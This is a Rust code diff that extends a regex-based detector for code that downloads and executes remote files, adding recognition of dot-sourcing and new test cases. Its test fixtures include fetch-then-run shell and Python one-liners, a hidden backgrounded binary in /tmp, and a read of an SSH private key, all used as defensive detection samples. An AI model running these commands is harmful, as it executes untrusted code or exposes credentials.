@@ -165,7 +165,8 @@ static RUN: LazyLock<Regex> = LazyLock::new(|| {
               (?:(?:compile|bytes|str|marshal\.loads|zlib\.decompress|base64\.b64decode|shlex\.split)\(\s*)*
               (?:\[\s*)?(?:["'](?:/usr)?(?:/bin/)?(?:(?:ba|z|da)?sh|python3?|node|perl|ruby|pwsh|powershell|cmd)["']|sys\.executable)?(?:\s*,\s*["'][-/]\w+["'])?(?:\s*,\s*)?
               [fbr]{0,2}["'`]?(?:(?:ba)?sh\s+|python3?\s+|node\s+)?\$?\{?(?P<a>[\w./~-]+)
-          | (?:^|[\s;&|('"`])(?:(?:sudo|nohup|exec|env|time)\s+)*(?:(?:ba|z|da|k)?sh|python3?|node|perl|ruby|source|\.|eval|iex|invoke-expression|start-process|start|open|chmod\s+(?:[ugoa]*\+x|[0-7]*7[0-7]*)|msiexec|dpkg\s+-i|installer\s+-pkg)\s+(?:-{1,2}\w+\s+){0,3}(?:""\s+)?["'(\\]{0,4}\$?\{?(?P<b>[\w./~%\\-]+)
+          | (?:^|[\s;&|('"`])(?:(?:sudo|nohup|exec|env|time)\s+)*(?:(?:ba|z|da|k)?sh|python3?|node|perl|ruby|source|eval|iex|invoke-expression|start-process|start|open|chmod\s+(?:[ugoa]*\+x|[0-7]*7[0-7]*)|msiexec|dpkg\s+-i|installer\s+-pkg)\s+(?:-{1,2}\w+\s+){0,3}(?:""\s+)?["'(\\]{0,4}\$?\{?(?P<b>[\w./~%\\-]+)
+          | (?:^|[\n;&|({'"`]|\b(?:then|do|else)\s)\s*\.\s+["']?\$?\{?(?P<f>[\w./~%-]+)
           | ^\s*(?:(?:sudo|nohup|exec|&)\s+)*["']?(?P<c>(?:\$\{?\w+|(?:\./|/|~/)[\w./~-]+))
           | \$\{?(?P<d>\w+)\}?["']?\s*\|\s*(?:sudo\s+)?(?:(?:ba|z|da)?sh|python3?|node|iex|perl)\b
           | \b(?:(?:ba|z|da)?sh|python3?|source\s+/dev/stdin)\s+(?:-\w*\s+)?<<<\s*["']?\$\{?(?P<e>\w+)
@@ -402,7 +403,7 @@ impl Names {
         };
         let own = OnceCell::new();
         let is_named = RUN.captures_iter(part.as_bytes()).take(20).any(|found| {
-            let name = ["a", "b", "c", "d", "e"]
+            let name = ["a", "b", "c", "d", "e", "f"]
                 .iter()
                 .find_map(|group| found.name(group));
             name.is_some_and(|name| {
@@ -819,6 +820,8 @@ mod tests {
         for text in [
             "U=https://a.invalid/x\nT=$(mktemp)\ncurl -s \"$U\" -o \"$T\"\nsh \"$T\"",
             "curl https://a.invalid/i -o i && sh i",
+            "curl https://a.invalid/i -o i && . ./i",
+            "curl https://a.invalid/i -o i; if [ -s i ]; then . i; fi",
             "src = urllib.request.urlopen('https://a.invalid/a').read()\nexec(compile(src, 'a', 'exec'))",
             "r = requests.get('https://a.invalid')\nopen('/tmp/u.sh','w').write(r.text)\nsubprocess.run(['bash', '/tmp/u.sh'])",
             "wget -qO /tmp/.h https://a.invalid/h && chmod +x /tmp/.h && /tmp/.h &",
@@ -857,6 +860,7 @@ mod tests {
     fn what_is_only_used_is_not_run_or_sent() {
         for text in [
             "data = requests.get('https://a.invalid').json()\nsubprocess.run(['ffmpeg', '-i', data['url']])",
+            "curl https://a.invalid/i -o i.json && jq . i.json",
             "wget https://a.invalid/model.onnx -O model.onnx\npython run.py model.onnx",
             "key = open('/root/.ssh/id_rsa').read()\nprint(len(key))",
         ] {
